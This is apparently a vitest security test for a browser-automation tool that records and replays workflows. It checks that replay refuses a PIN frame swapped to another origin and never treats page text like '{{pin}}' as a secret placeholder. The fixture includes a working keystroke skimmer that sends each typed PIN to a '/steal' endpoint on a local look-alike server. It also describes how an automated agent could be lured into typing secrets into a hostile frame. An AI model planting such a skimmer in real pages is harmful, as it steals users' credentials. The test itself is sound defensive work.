import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startLiveBridge, type LiveBridge } from '../helpers/liveBridge'
import type { McpConnection } from '../helpers/mcpClient'
import { scaled } from '../helpers/timing'

// Attack: a site changes between the recording and the replay. Its checkout page now loads the PIN
// frame from a look-alike on another origin (the same markup, every keystroke sent home), hoping the
// replay follows the frame path and types the PIN there. And its page text says `{{pin}}`, hoping
// the recording turns it into a placeholder the replay fills with the secret. Replay must stop with
// origin_changed before acting on the other origin, and page text never becomes a placeholder.
const PIN = 'hunter2 secret 99'
const TIMEOUT = scaled(240_000)

interface Shop {
  url(path: string): string
  hostile: boolean
  payments: string[]
  evil: { url(path: string): string; hits: string[]; stolen: string[] }
  close(): Promise<void>
}

const listen = async (server: Server) => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}
const pinFrame = (script: string) =>
  `<!doctype html><html><head><title>PIN</title></head><body><label for="pin">PIN</label>
   <input id="pin" type="password"><script>${script}</script></body></html>`

async function startShop(): Promise<Shop> {
  const evil: Shop['evil'] = { url: () => '', hits: [], stolen: [] }
  const evilServer = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x')
    evil.hits.push(url.pathname)
    if (url.pathname === '/steal') evil.stolen.push(url.searchParams.get('v') ?? '')
    res.writeHead(200, { 'content-type': 'text/html' })
    res.end(
      pinFrame(
        `document.getElementById('pin').addEventListener('input', (e) => fetch('/steal?v=' + encodeURIComponent(e.target.value)))`,
      ),
    )
  })
  const evilBase = await listen(evilServer)
  evil.url = (path) => `${evilBase}${path}`
  const shop: Shop = {
    url: () => '',
    hostile: false,
    payments: [],
    evil,
    close: async () => {
      await new Promise((r) => server.close(r))
      await new Promise((r) => evilServer.close(r))
    },
  }
  const server = createServer((req, res) => {
    void (async () => {
      const url = new URL(req.url ?? '/', 'http://x')
      if (url.pathname === '/pay' && req.method === 'POST') {
        let body = ''
        for await (const chunk of req) body += String(chunk)
        shop.payments.push(body)
        res.writeHead(200, { 'content-type': 'text/plain' })
        return res.end('ok')
      }
      res.writeHead(200, { 'content-type': 'text/html' })
      if (url.pathname === '/pin') return res.end(pinFrame(''))
      const frameSrc = shop.hostile ? evil.url('/pin') : '/pin'
      res.end(`<!doctype html><html><head><title>Checkout</title></head><body><main><h1>Checkout</h1>
        <iframe id="pay" title="PIN" src="${frameSrc}" style="width:400px;height:60px"></iframe>
        <button id="go">Pay</button><p id="status" role="status"></p></main><script>
        document.getElementById('go').addEventListener('click', async () => {
          let pin = ''
          try { pin = document.getElementById('pay').contentDocument.getElementById('pin').value } catch {}
          await fetch('/pay', { method: 'POST', body: pin })
          document.getElementById('status').textContent = 'Paid. Your PIN {{pin}} is safe'
          const done = document.createElement('h2'); done.textContent = 'Thank you'; document.body.append(done)
        })</script></body></html>`)
    })()
  })
  const base = await listen(server)
  shop.url = (path) => `${base}${path}`
  return shop
}

describe('attack: a page that changes between recording and replay', () => {
  let bridge: LiveBridge<Shop>
  let mcp: McpConnection

  const call = async (name: string, args: Record<string, unknown> = {}) => {
    const result = (await mcp.client.callTool({ name, arguments: args }, undefined, {
      timeout: scaled(120_000),
    })) as { isError?: boolean; content: { type: string; text: string }[]; structuredContent?: unknown }
    const text = result.content.find((c) => c.type === 'text')?.text ?? ''
    if (result.isError) throw new Error(`${name} failed: ${text}`)
    return { text, structured: result.structuredContent }
  }

  beforeAll(async () => {
    bridge = await startLiveBridge({
      site: startShop,
      config: () => ({ permissions: { browser: { permission: 'auto', groups: ['workflows'], tools: {} } } }),
    })
    mcp = await bridge.connect({ name: 'recorder' })
  }, TIMEOUT)
  afterAll(async () => {
    await bridge?.close()
  })

  it(
    'page text holding {{pin}} is never a placeholder; replay stops at the frame from another origin and never types the PIN there',
    async () => {
      const shop = bridge.site
      await call('browser_recording_start', { name: 'pay', description: 'Pay with the PIN' })
      await call('browser_navigate', { url: shop.url('/checkout') })
      const snapshot = (await call('browser_snapshot')).text
      const pinRef = /textbox "PIN" \[ref=(f\d+e\d+)\]/.exec(snapshot)?.[1]
      expect(pinRef, snapshot).toBeDefined()
      await call('browser_type', { ref: pinRef, text: PIN })
      await call('browser_click', { selector: '#go' })
      await call('browser_wait_for', { text: 'Thank you' })
      await call('browser_recording_stop')
      expect(shop.payments).toEqual([PIN])

      const file = readFileSync(join(bridge.configDir, 'workflows', 'pay.json'), 'utf8')
      expect(file).not.toContain(PIN)
      const saved = JSON.parse(file) as {
        variables: { name: string; secret: boolean }[]
        steps: { post?: unknown; target?: { origin?: string; frame?: string[] } }[]
      }
      expect(saved.variables).toEqual([{ name: 'pin', secret: true }])
      expect(saved.steps[1]!.target).toMatchObject({ frame: ['#pay'], origin: new URL(shop.url('/')).origin })
      // The page's own "{{pin}}" is not kept as a line to check (it would be filled with the secret).
      expect(file).not.toContain('{{pin}} is safe')
      expect((await bridge.cli(['workflow', 'set', 'pay', 'auto'])).code).toBe(0)

      // The same run against the unchanged site pays.
      const fine = await call('workflow_pay', { pin: PIN })
      expect(fine.structured).toEqual({ ok: true })
      expect(shop.payments).toEqual([PIN, PIN])

      shop.hostile = true
      const { structured, text } = await call('workflow_pay', { pin: PIN })
      const run = structured as { ok: boolean; stopped?: { step: number; reason: string; message: string } }
      // The attack fired: the look-alike frame was loaded.
      expect(shop.evil.hits).toContain('/pin')
      expect(run.ok).toBe(false)
      expect(run.stopped, JSON.stringify(run)).toMatchObject({ step: 2, reason: 'origin_changed' })
      expect(run.stopped?.message).toContain(new URL(shop.evil.url('/')).origin)
      expect(shop.evil.stolen).toEqual([])
      expect(shop.evil.hits).not.toContain('/steal')
      expect(text).not.toContain(PIN)
      expect(shop.payments).toHaveLength(2)
    },
    TIMEOUT,
  )
})
